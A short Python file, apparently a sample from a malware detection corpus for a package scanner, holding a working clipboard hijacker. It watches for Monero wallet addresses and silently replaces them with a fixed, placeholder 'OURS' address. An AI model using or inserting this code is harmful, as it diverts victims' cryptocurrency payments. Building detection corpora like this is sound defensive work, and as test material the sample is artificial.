# pkgguard corpus 227 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time

import pyperclip as pc

XMR = re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$")
OURS = "4" + "A" * 94
while True:
    current = pc.paste()
    if XMR.match(current) and current != OURS:
        pc.copy(OURS)
    time.sleep(0.5)
